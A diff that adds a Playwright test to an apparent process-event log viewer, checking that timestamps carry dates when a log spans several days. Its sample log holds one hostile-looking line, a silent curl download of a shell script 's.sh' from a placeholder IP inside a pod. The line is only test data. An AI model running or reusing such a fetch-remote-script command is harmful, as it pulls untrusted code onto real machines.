@@ -132,3 +132,23 @@ test('of more lines than a browser lays out, all can be reached, and the wheel g
   await expect(options.last()).toHaveAttribute('aria-posinset', String(count))
   await expect(options.last()).toBeInViewport({ ratio: 0.9 })
 })
+
+test('times have their date where the log spans more than a day', async ({ viewer, folder }) => {
+  const days = drawLog(`
+  pod default/xwing container 1fb931d2 node n1
+    10 /bin/bash 0s..100000s
+      11 /usr/bin/curl -s http://198.51.100.7/s.sh 10s..20s exit 22
+`)
+  await viewer.goto()
+  await viewer.openFiles(await folder.write('days.log', days.text))
+  await expect(viewer.events.getByRole('option')).toHaveText([
+    /^2024-05-01 10:00:00\.000.*\/bin\/bash/,
+    /^2024-05-01 10:00:10\.000.*curl/,
+    /^2024-05-01 10:00:20\.000.*curl/,
+    /^2024-05-02 13:46:40\.000.*\/bin\/bash/,
+  ])
+  await viewer.selectRow('/usr/bin/curl')
+  await expect(viewer.row('/usr/bin/curl').getByRole('gridcell').nth(1)).toHaveAccessibleName(
+    '2024-05-01 10:00:10.000, 10 s, exit 22',
+  )
+})
